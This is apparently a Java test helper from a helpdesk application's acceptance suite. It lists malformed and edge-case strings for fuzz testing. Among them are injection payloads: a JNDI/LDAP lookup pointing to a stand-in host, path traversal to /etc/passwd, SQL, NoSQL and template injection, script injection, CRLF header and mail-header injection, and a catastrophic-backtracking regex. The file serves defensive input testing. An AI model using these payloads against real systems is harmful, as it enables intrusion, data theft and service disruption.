package be.ecolenumerique.helpdesk.acceptance.wall;

import java.util.List;
import java.util.Random;

/** Texts that programs have stumbled over. */
final class Nasty {
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "null",
            "undefined",
            "true",
            "-1",
            "0",
            "1e400",
            "NaN",
            "9223372036854775808",
            "-2147483649",
            "TECH-0",
            "TECH--1",
            "TECH-2147483648",
            "TECH-１７２",
            "SUP-99999999999999999999",
            "P-zz",
            "2026-02-30T25:61",
            "2026-03-29T02:30",
            "+999999999-12-31T23:59:59Z",
            "a\u0000b",
            "a\r\nX-Injected: yes",
            "\u2028\u2029\u202e\u2066",
            "\ud83d",
            "\udc00\ud83d",
            "😀".repeat(300),
            "é".repeat(20_001),
            "../../etc/passwd",
            "..%2f..%2f",
            "%00",
            "%",
            "${jndi:ldap://evil.example/x}",
            "#{7*7} {{7*7}} *{7*7} @{7*7}",
            "{\"$gt\":\"\"}",
            "$where",
            "' OR '1'='1",
            "<script>alert(1)</script>",
            "(a+)+$",
            "[",
            "\\",
            "*",
            "x@y.example\r\nBcc: z@y.example",
            "\"very unusual\"@example.org",
            "ﬀİıß");

    private Nasty() {}

    static String text(Random chance) {
        return TEXTS.get(chance.nextInt(TEXTS.size()));
    }
}
